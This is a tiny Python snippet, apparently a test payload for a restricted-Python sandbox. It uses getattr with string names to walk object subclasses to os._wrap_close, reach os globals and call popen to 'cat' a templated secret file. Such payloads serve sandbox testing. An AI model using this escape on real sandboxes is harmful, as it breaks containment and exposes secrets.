"""The same, with the names as text."""
read = getattr
base = read(read((), "__class__"), "__base__")
for cls in read(base, "__subclasses__")():
    if read(cls, "__name__") == "_wrap_close":
        print(read(read(cls, "__init__"), "__globals__")["popen"]("cat @SECRET_FILE@").read())
